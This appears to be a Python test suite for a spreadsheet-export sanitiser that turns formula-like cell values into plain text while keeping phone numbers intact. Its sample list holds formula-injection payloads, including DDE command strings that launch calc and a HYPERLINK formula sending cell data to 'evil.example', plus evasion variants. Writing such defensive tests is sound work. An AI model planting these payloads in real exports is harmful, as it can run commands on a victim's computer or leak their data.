"""Cells of spreadsheets: what strangers wrote is no formula, and a phone number stays one."""

import csv
import io
import json
import zipfile
from datetime import date, datetime

import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st

from ...models.tools.export_cells import export_cell
from ..common import WabaCase
from ..pure import PureCase

FORMULAS = (
    "=1+1", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Click")', "+34 600 111 222=1", "+A1", "-A1", "--1",
    "=", "+", "-", "@", "＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", " =1+1", "   +cmd",
    "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x01\x02=1", "\u00a0=1", "\u200b=1", "\ufeff=1+1",
    "\u202e=1+1", "'=1+1", '"=1+1"', "“=1+1”", "'\t=1", "|calc", "%0A=1", "\tAna", "\rAna",
    "+34-600-111-222",
    "+34 600 111 222", "=1\n=2", "\u3000=1",
)  # fmt: skip
HARMLESS = (
    "Ana", "ana@shop.example", "a=b", "1+1", "+34600111222", "+5491123456789", "-5", "-12.5",
    "12,5", "¡Hola!", "(+34) 600", "0", "600 111 222", "Ana =)", "*Hola*", "👍", "", "https://a.example/?a=1",
    "«=»", "O'Neill", "2026-11-03 10:30:00", "1.234,50 €",
)  # fmt: skip


class TestCell(PureCase):
    def test_formulas_become_texts(self):
        for text in FORMULAS:
            with self.subTest(ascii(text)):
                written = export_cell(text)
                self.assertTrue(written.startswith("'"), ascii(written))
                self.assertNotRegex(written, "[\x00-\x08\x0e-\x1f]")

    def test_what_is_harmless_stays_as_it_is(self):
        for text in HARMLESS:
            with self.subTest(text):
                self.assertEqual(export_cell(text), text)

    def test_other_values(self):
        for value in (1, -5, 0, 2.5, True, date(2026, 11, 3), datetime(2026, 11, 3, 10, 30)):
            with self.subTest(value):
                self.assertEqual(export_cell(value), value)
        self.assertEqual([export_cell(False), export_cell(None), export_cell("")], ["", "", ""])
        self.assertEqual(export_cell({"a": "ñ"}), '{"a": "ñ"}')
        self.assertEqual(export_cell(["=1"]), '["=1"]')
        self.assertEqual(len(export_cell("a" * 40_000)), 32_767)

    @given(st.text(max_size=40))
    def test_nothing_begins_as_a_formula(self, text):
        written = export_cell(text)
        self.assertIn(written[:1], ("'", *text, ""))
        bare = written.lstrip(" \t\r\n\"'\u00a0\u200b\ufeff")
        if bare[:1] and bare[:1] in "=+-@＝＋－＠" and not written.startswith("'"):
            self.assertRegex(written, r"\A([-+]?\d+([.,]\d+)*)\Z")

    @given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
    def test_a_row_survives_csv_and_xlsx(self, texts):
        file, book = io.StringIO(newline=""), io.BytesIO()
        csv.writer(file, quoting=csv.QUOTE_ALL).writerow([export_cell(text) for text in texts])
        [row] = csv.reader(io.StringIO(file.getvalue(), newline=""))
        self.assertEqual(row, [export_cell(text) for text in texts])
        with xlsxwriter.Workbook(book, {"strings_to_formulas": False}) as workbook:
            sheet = workbook.add_worksheet()
            for column, text in enumerate(texts):
                self.assertEqual(sheet.write(0, column, export_cell(text)), 0)


class TestPersonsExport(WabaCase):
    def test_every_cell_of_a_persons_data_is_written_by_it(self):
        person = self.env["waba.recipient"]._find_or_create_by_number(
            self.portfolio, ["+34611222333"]
        )["+34611222333"]
        for name in FORMULAS:
            # PostgreSQL keeps no NUL.
            person.name = name.replace("\0", "")
            with zipfile.ZipFile(io.BytesIO(person._export_zip(self.env.company))) as archive:
                raw = archive.read("people.csv").decode("utf-8-sig")
                [row] = csv.DictReader(io.StringIO(raw, newline=""))
                [plain] = json.loads(archive.read("all.json"))["people"]
            with self.subTest(ascii(name)):
                self.assertEqual(row["name"], export_cell(plain["name"]))
                self.assertEqual(row["number"], "+34611222333")
                self.assertTrue(not row["name"] or row["name"].startswith("'"))
